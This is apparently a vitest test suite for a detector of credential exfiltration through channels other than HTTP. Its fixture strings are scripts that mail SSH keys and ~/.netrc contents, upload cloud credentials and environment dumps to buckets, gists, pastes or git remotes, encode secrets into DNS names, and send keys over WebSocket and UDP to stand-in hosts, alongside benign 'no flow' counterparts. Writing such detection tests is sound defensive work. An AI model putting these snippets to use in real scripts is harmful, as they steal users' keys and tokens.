// Exfiltration channels other than HTTP: SMTP, cloud storage (SDKs and CLIs), publishing CLIs (gh gist, gh
// release, pastebinit), scp/rsync and DNS names built
// from data. A secret source reaching one of them is the same E1/E2/PE3 flow as a POST; the user's own output
// sent to where the user says is not.
import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

const cases: Case[] = [
  {
    name: 'python smtplib: a credential file and a token mailed out through a client opened with `with`',
    path: 'scripts/digest.py',
    text: [
      'import os, smtplib',
      'from email.message import EmailMessage',
      'blob = open(os.path.expanduser("~/.netrc")).read()',
      'note = EmailMessage()',
      'note["Subject"] = "digest"',
      'note.set_content(blob + os.getenv("NPM_TOKEN", ""))',
      'with smtplib.SMTP_SSL("mx.quiet-relay.org", 465) as client:',
      '    client.send_message(note)',
    ].join('\n'),
    expect: [
      ['PE3', 8],
      ['E1', 8],
    ],
  },
  {
    name: 'python smtplib.sendmail on a client assigned to a name carries the environment',
    path: 'scripts/m.py',
    text: 'import os, smtplib, json\nconn = smtplib.SMTP("smtp.mail-sink.biz")\nconn.sendmail("a@x.biz", ["b@x.biz"], json.dumps(dict(os.environ)))\n',
    expect: [['E2', 3]],
  },
  {
    name: 'nodemailer sendMail with an SSH key in the text',
    path: 'scripts/notify.js',
    text: [
      "const mailer = require('nodemailer');",
      "const fs = require('fs');",
      "const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_ed25519', 'utf8');",
      "const tx = mailer.createTransport({ host: 'smtp.post-box.cc', port: 587 });",
      "tx.sendMail({ from: 'bot@post-box.cc', to: 'me@post-box.cc', subject: 'k', text: key });",
    ].join('\n'),
    expect: [['PE3', 5]],
  },
  {
    name: 'boto3 put_object and upload_file of credential stores to a fixed bucket',
    path: 'scripts/tidy.py',
    text: [
      'import os, boto3',
      'store = boto3.Session().client("s3")',
      'store.upload_file(os.path.expanduser("~/.docker/config.json"), "tidy-archive-44", "d.json")',
      'store.put_object(Bucket="tidy-archive-44", Key="e", Body=str(dict(os.environ)))',
    ].join('\n'),
    expect: [
      ['PE3', 3],
      ['E2', 4],
    ],
  },
  {
    name: '@aws-sdk PutObjectCommand with process.env as the body',
    path: 'scripts/backup.mjs',
    text: "import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3';\nconst s3 = new S3Client({});\nawait s3.send(new PutObjectCommand({ Bucket: 'bk-77', Key: 'x', Body: JSON.stringify(process.env) }));\n",
    expect: [['E2', 3]],
  },
  {
    name: 'cloud CLIs copy credential stores to buckets; scp and rsync to a remote host',
    path: 'scripts/mirror.sh',
    text: [
      '#!/bin/bash',
      'gsutil cp ~/.config/gcloud/application_default_credentials.json gs://mirror-7/a.json',
      'gcloud storage cp ~/.kube/config gs://mirror-7/k',
      'aws s3 cp ~/.aws/credentials s3://mirror-7/c',
      'az storage blob upload --account-name mirror7 --container-name c --file ~/.ssh/id_rsa --name k',
      'scp ~/.git-credentials ops@198.51.100.23:/tmp/g',
      'rsync -a ~/.aws/ sync@files.mirror-host.net:/in/',
    ].join('\n'),
    expect: [
      ['PE3', 2],
      ['PE3', 3],
      ['PE3', 4],
      ['PE3', 5],
      ['PE3', 6],
      ['PE3', 7],
    ],
  },
  {
    name: 'shell mailers: a key piped to mail, the environment attached with mutt',
    path: 'scripts/report.sh',
    text: '#!/bin/bash\ncat ~/.ssh/id_rsa | mail -s "weekly" drop@inbox-relay.net\nenv > /tmp/e.txt\nmutt -s r -a /tmp/e.txt -- drop@inbox-relay.net < /dev/null\n',
    expect: [
      ['PE3', 2],
      ['E2', 3],
    ],
  },
  {
    name: 'no flow: a shell mailer sends a build log to the address the user gives',
    path: 'scripts/notify.sh',
    text: '#!/bin/bash\nset -euo pipefail\nmake build 2>&1 | tail -50 | mail -s "build finished" "$1"\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'DNS: a secret encoded into a hostname resolved by socket.gethostbyname and by dig',
    path: 'scripts/ping.py',
    text: 'import os, socket\nlabel = os.environ["STRIPE_SECRET_KEY"].encode().hex()[:60]\nsocket.gethostbyname(f"{label}.n.lookup-sink.net")\n',
    expect: [['E2', 3]],
  },
  {
    name: 'publishing CLIs: credential files put in a gist, a release and a paste',
    path: 'scripts/share.sh',
    text: '#!/bin/bash\ngh gist create --secret ~/.aws/credentials -d notes\ngh release upload v1 ~/.ssh/id_ed25519 --clobber\npastebinit ~/.netrc\n',
    expect: [
      ['PE3', 2],
      ['PE3', 3],
      ['PE3', 4],
    ],
  },
  {
    name: 'git push to an address in the script, by URL or scp-like, after copying credentials into the repository',
    path: 'scripts/backup.sh',
    text: '#!/bin/bash\ncp -r ~/.ssh keys\ngit add . && git commit -qm b\ngit push -q git@github.com:sync-bot/backups.git HEAD:main\n',
    expect: [
      ['PE3', 2],
      ['E1', 4],
    ],
  },
  {
    name: 'credentials and the environment written into a cloned repository, then pushed to its origin',
    path: 'scripts/backup.sh',
    text: '#!/bin/bash\ngit clone -q https://github.com/notes-sync-42/store.git /tmp/.nb\ncp ~/.aws/credentials /tmp/.nb/aws.txt\nenv > /tmp/.nb/env.txt\ncd /tmp/.nb && git add -A && git commit -qm b && git push -q origin main\n',
    // The flows span from the read to the push (line 5); the read and the dump alone stop at lines 3 and 4.
    expect: [
      ['PE3', 5],
      ['E2', 5],
    ],
  },
  {
    name: 'a token written into a tree named with git -C, pushed to a remote added by name',
    path: 'scripts/sync.sh',
    text: '#!/bin/bash\ngit init -q "$HOME/.cache/s"\ngit -C "$HOME/.cache/s" remote add up https://git.example-forge.io/u/s.git\nprintenv GITHUB_TOKEN > ~/.cache/s/t\ngit -C "$HOME/.cache/s" add t && git -C ~/.cache/s commit -qm s\ngit -C "$HOME/.cache/s" push up HEAD:main\n',
    expect: [['E2', 6]],
  },
  {
    name: 'python: a shell string that commits what it is given on stdin and pushes it',
    path: 'scripts/sync.py',
    text: 'import os, subprocess\nkeys = {k: v for k, v in os.environ.items() if "KEY" in k}\nsubprocess.run("mkdir -p /tmp/.b && cd /tmp/.b && cat > d && git init -q && git add d && git commit -qm s && git push -q https://github.com/acct-7/b.git HEAD:main", shell=True, input=str(keys).encode())\n',
    expect: [['E2', 3]],
  },
  {
    name: 'no flow: dotfiles copied into a cloned repository and pushed back to it',
    path: 'scripts/dotfiles.sh',
    text: '#!/bin/bash\nset -euo pipefail\ngit clone -q https://github.com/me/dotfiles.git ~/dotfiles\ncp ~/.zshrc ~/.vimrc ~/dotfiles/\ngit -C ~/dotfiles add -A && git -C ~/dotfiles commit -qm sync\ngit -C ~/dotfiles push -q origin main\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'no flow: a build pushed to the remote the user set up, and a pull from an address',
    path: 'scripts/deploy.sh',
    text: '#!/bin/bash\ncp ~/.ssh/known_hosts.bak /dev/null\ngit add site && git commit -qm site\ngit push origin gh-pages\ngit pull https://github.com/acme/site.git main\n',
    absent: ['E1', 'E2'],
  },
  {
    name: 'no flow: the build and a review comment published with gh',
    path: 'scripts/release.sh',
    text: '#!/bin/bash\nset -euo pipefail\ngh release upload "$TAG" dist/app.tar.gz\ngh pr comment "$PR" --body-file review.md\ngh gist create notes.md\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'no flow: a report file the user names uploaded to the bucket the user names',
    path: 'scripts/publish.py',
    text: 'import argparse, boto3\np = argparse.ArgumentParser()\np.add_argument("report")\np.add_argument("--bucket", required=True)\na = p.parse_args()\nboto3.client("s3").upload_file(a.report, a.bucket, "reports/out.pdf")\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'no flow: the generated report copied to a fixed company bucket by the CLI',
    path: 'scripts/publish.sh',
    text: '#!/bin/bash\nset -euo pipefail\npython3 build_report.py > out/report.html\naws s3 cp out/report.html s3://acme-reports/weekly/\ngsutil cp out/report.html "gs://$REPORT_BUCKET/"\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'no flow: a mailer sends the message the user wrote, logging in with its own SMTP password',
    path: 'scripts/send.py',
    text: 'import os, smtplib, sys\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nmsg["To"] = sys.argv[1]\nmsg.set_content(sys.stdin.read())\nwith smtplib.SMTP("smtp.gmail.com", 587) as s:\n    s.starttls()\n    s.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])\n    s.send_message(msg)\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'no flow: downloads from a bucket send nothing',
    path: 'scripts/fetch.sh',
    text: '#!/bin/bash\naws s3 cp s3://public-datasets/iris.csv data/iris.csv\ngsutil cp gs://public-models/m.bin models/\n',
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'python http.client: a credential file posted through a connection opened with the host',
    path: 'scripts/a.py',
    text: [
      'import http.client, os',
      'data = open(os.path.expanduser("~/.aws/credentials")).read()',
      'conn = http.client.HTTPSConnection("status-relay.io")',
      'conn.request("POST", "/c", body=data)',
    ].join('\n'),
    expect: [['E1', 4]],
  },
  {
    name: 'python http.client: a GET with no body sends nothing of the script',
    path: 'scripts/b.py',
    text: [
      'import http.client',
      'conn = http.client.HTTPSConnection("status-relay.io")',
      'conn.request("GET", "/status")',
    ].join('\n'),
    absent: ['E1'],
  },
  {
    name: 'a WebSocket opened with a URL, sent an SSH key when it opens',
    path: 'scripts/g.js',
    text: [
      "const fs = require('fs');",
      "const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');",
      "const ws = new WebSocket('wss://status-relay.io/ws');",
      'ws.onopen = () => ws.send(key);',
    ].join('\n'),
    expect: [['E1', 4]],
  },
  {
    name: 'a UDP datagram carrying a credential file to a named host',
    path: 'scripts/h.js',
    text: [
      "const d = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');",
      "require('dgram').createSocket('udp4').send(Buffer.from(d), 53, 'status-relay.io');",
    ].join('\n'),
    expect: [['E1', 2]],
  },
];

describe('exfiltration channels beyond HTTP', () => {
  for (const c of cases) it(c.name, () => check(c));
});
